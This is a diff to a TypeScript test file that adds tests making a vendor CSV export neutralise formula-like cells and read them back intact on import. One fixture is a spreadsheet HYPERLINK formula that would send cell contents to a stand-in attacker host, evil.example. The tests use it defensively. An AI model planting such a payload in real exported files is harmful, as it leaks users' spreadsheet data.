@@ -21,9 +21,30 @@ describe('vendorsToCsv', () => {
     const cell = (name: string) => row!.fields[VENDOR_CSV_HEADER.indexOf(name)];
     expect([cell('vendorId'), cell('vendorName'), cell('status'), cell('rating'), cell('fiveOneARMRate'), cell('services')]).toEqual(['7', 'Acme Mortgage', 'Active', '4.5', '5.99', 'HELOC, Refinancing']);
   });
+
+
+  it('writes a vendor named like a formula as text (a leading \'), so a spreadsheet does not run it', () => {
+    const name = '=HYPERLINK("https://evil.example/?d="&B2,"Click me")';
+    const csv = vendorsToCsv([exported({ name, description: '@SUM(1+1)', phoneNumber: '+1 (555) 010-0100' })]);
+    const line = csv.split('\r\n')[1]!;
+    expect(line).toContain('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Click me"")"');
+    expect(line).toContain(",'@SUM(1+1),");
+    // No cell of the data row starts with a formula character once unquoted.
+    const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
 });
 
 describe('planVendorImport', () => {
+  it('reads formula-like texts back exactly as they were before export', () => {
+    const vendor = exported({ name: '=HYPERLINK("https://evil.example/?d="&B2,"Click me")', description: "-minus, @at, +plus and '=quoted" });
+    const records = parseCsv(vendorsToCsv([vendor])).map(({ fields }) => fields.slice(1));
+    const plan = planVendorImport(formatCsv(records), OPTIONS);
+    expect(plan.refused).toEqual([]);
+    expect(plan.create[0]!.input.name).toBe(vendor.name);
+    expect(plan.create[0]!.input.description).toBe(vendor.description);
+  });
+
   it('round trip: an exported file without its ids gives back equal vendor inputs', () => {
     const vendors = [exported(), exported({ internalId: 8, name: 'Beta, "Quoted" Bank', status: 'INACTIVE', description: 'two\nlines', loanTypes: ['VA', 'Jumbo'] })];
     const records = parseCsv(vendorsToCsv(vendors)).map(({ fields }) => fields.slice(1));
